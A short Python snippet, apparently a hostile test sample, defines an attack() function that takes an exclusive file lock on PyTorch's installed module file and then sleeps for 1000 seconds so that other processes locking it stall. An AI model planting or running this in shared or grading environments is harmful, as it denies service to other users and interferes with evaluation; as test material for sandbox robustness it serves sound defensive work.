"""Locks files that everybody reads, and waits: whoever locks them too would wait with it."""
import fcntl
import time
import torch

def attack():
    file = open(torch.__file__)
    fcntl.flock(file, fcntl.LOCK_EX)
    time.sleep(1000)
